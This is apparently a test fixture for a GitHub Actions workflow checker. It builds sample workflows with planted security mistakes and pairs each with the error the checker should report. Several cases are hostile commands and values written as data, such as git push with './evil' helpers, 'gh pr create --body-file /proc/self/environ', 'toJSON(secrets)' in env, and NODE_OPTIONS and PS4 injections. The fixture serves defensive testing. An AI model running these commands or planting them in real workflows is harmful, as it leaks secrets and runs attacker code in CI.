// Workflows with mistakes that `check-workflows.mjs` must find.

const CHECKOUT = "uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2";
const NODE = "uses: actions/setup-node@48b55a011bda9f5d6aeb4c2d9c7362e8dae4041e # v6.4.0";
const CACHE = "uses: actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830 # v4.3.0";
const DOWNLOAD =
  "uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093 # v4.3.0";
const UPLOAD = "uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2";

/** A job that hands over the id of what it made. */
const handing = (name, command) => `
  ${name}:
    runs-on: ubuntu-24.04
    permissions: { contents: read }
    outputs: { id: "\${{ steps.made.outputs.artifact-id }}" }
    steps:
      - run: ${command}
      - id: made
        ${UPLOAD}
        with: { path: release }`;

/** A job that publishes what another packed, with one step more. */
const publishing = (
  step,
  rights = "{ contents: read, id-token: write }",
  more = "environment: npm",
) =>
  `name: Planted
on: push
permissions: {}
jobs:${handing("pack", "node scripts/bootstrap.mjs release")}${handing("build", "make")}
  publish:
    needs: [pack, build]
    runs-on: ubuntu-24.04
    permissions: ${rights}
    ${more}
    steps:
      - ${step}
      - ${DOWNLOAD}
        with: { artifact-ids: "\${{ needs.pack.outputs.id }}", path: release, merge-multiple: true }
      - run: node scripts/publish.mjs release
`;

export const SOUND = publishing(
  `run: |
          # It publishes.
          node scripts/publish.mjs \\
            release
        env: { GH_TOKEN: "\${{ github.token }}" }`,
);

const broken = (runner, command) => `name: Broken
on: issues
jobs:
  one:
    ${runner}
    steps:
      - uses: actions/checkout@v4
      - run: ${command}
`;
const NOT_LISTED = /publish may write, and runs what is not listed/;
/** Workflows, each with what is said of its mistake. */
export const PLANTED = [
  [broken("runs-onn: ubuntu-latest", "echo"), /runs-onn/],
  [broken("runs-on: ubuntu-latest", 'echo "${{ github.event.issue.title }}"'), /issue\.title/],
  ...[/pin the action/, /one has every right/, /one keeps credentials/].map((expected) => [
    broken("runs-on: ubuntu-latest", "echo"),
    expected,
  ]),
  ...[
    "npm ci",
    "npm \\\n          ci",
    "# It publishes: \\\n          npm ci",
    "node scripts/publish.mjs release && make",
    "node scripts/publish.mjs scripts",
    "echo x >> $GITHUB_ENV",
    // What the job that proposes a version may do changes what this one publishes by.
    'git apply --index "$PATCH"',
  ].map((command) => [publishing(`run: |\n          ${command}`), NOT_LISTED]),
  ...[
    "git push --exe=./evil . HEAD",
    'git push --receive""-pack=./evil . HEAD',
    "git push https://example.com/x main",
    "git apply --unsafe-paths release/version.patch",
    "git diff --output=a",
    "gh pr create --body-file /proc/self/environ --repo a/b",
  ].map((command) => [
    publishing(`run: ${command}`).replace("- run: node scripts/publish.mjs release", ""),
    NOT_LISTED,
  ]),
  ...[
    ["{ contents: write }"],
    ["{ contents: read }", "{ A: '${{ secrets.NPM_TOKEN }}' }"],
    ["{ contents: read }", `{ A: "\${{ secrets['A'] }}" }`],
    ["{ contents: read }", "{ NODE_AUTH_TOKEN: '${{ toJSON(secrets) }}' }"],
  ].map(([rights, env = "{}"]) => [
    publishing(`run: npm ci\n        env: ${env}`, rights),
    NOT_LISTED,
  ]),
  ...[
    `\${{ fromJSON('{"NODE_OPTIONS":"--import=./release/a.mjs"}') }}`,
    "{ HOME: release }",
    "{ GH_HOST: example.com }",
    "{ GH_TOKEN: a }",
    "{ SHELLOPTS: xtrace, PS4: '$(npm ci)' }",
    "{ npm_config_registry: a }",
  ].map((env) => [
    publishing(`run: node scripts/publish.mjs release\n        env: ${env}`),
    /publish may write, and sets/,
  ]),
  [SOUND.replace("on: push", "on: push\nenv: { ENV: a }"), /publish may write, and sets ENV/],
  ...["shell: npm exec x {0}", "working-directory: release"].map((more) => [
    publishing(`run: node scripts/publish.mjs release\n        ${more}`),
    /publish may write, and has (?:shell|working)/,
  ]),
  [publishing(CACHE, undefined, "container: node:24"), /publish may write, and has container/],
  [SOUND.replace("on: push", "on: push\ndefaults: { run: { shell: sh } }"), /has defaults/],
  [
    "on: push\npermissions: {}\njobs: { a: { uses: ./.github/workflows/b.yml, secrets: inherit } }",
    /a may write, and has (?:uses|secrets)/,
  ],
  [
    publishing("uses: someone/else@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v1"),
    /uses more than it needs/,
  ],
  [SOUND.replaceAll("ubuntu-24.04", "self-hosted"), /pack runs on a machine .* other jobs leave/],
  [SOUND.replaceAll("ubuntu-24.04", "windows-2025"), /publish may write, and runs on windows/],
  [publishing(CACHE, undefined, "timeout-minutes: 5"), /identity outside of an environment/],
  [publishing(CHECKOUT), /publish keeps credentials/],
  ...[
    [NODE, ""],
    [NODE, "package-manager-cache: false, cache: npm"],
    [NODE, "package-manager-cache: false, mirror: 'https://example.com'"],
    [CHECKOUT, "persist-credentials: false, ref: '${{ github.event.pull_request.head.sha }}'"],
    [CHECKOUT, "persist-credentials: false, repository: a/b"],
    [DOWNLOAD, "name: packages, path: release"],
    [DOWNLOAD, "pattern: packages"],
    ...["scripts", "release/../scripts"].map((path) => [DOWNLOAD, `pattern: a, path: '${path}'`]),
    [DOWNLOAD, "pattern: a, path: release, run-id: 1, github-token: a"],
  ].map(([action, given]) => [
    publishing(`${action}\n        with: { ${given} }`),
    /publish may write, and tells actions/,
  ]),
  ...[
    ['artifact-ids: "${{ needs.pack.outputs.id }}"', "pattern: a"],
    ["needs.pack.outputs.id", "needs.build.outputs.id"],
    ["steps.made.outputs.artifact-id", "steps.other.outputs.artifact-id"],
    [DOWNLOAD, CHECKOUT],
  ].map(([from, to]) => [SOUND.replaceAll(from, to), /replace the files of another/]),
  [publishing(CACHE), /uses more than it needs/],
  [publishing("uses: ./.github/actions/publish"), /pin the action by commit/],
  [publishing("'uses': actions/checkout@v4"), /pin the action by commit/],
  [SOUND.replace("on: push", "on: pull_request_target"), /a stranger sends/],
];
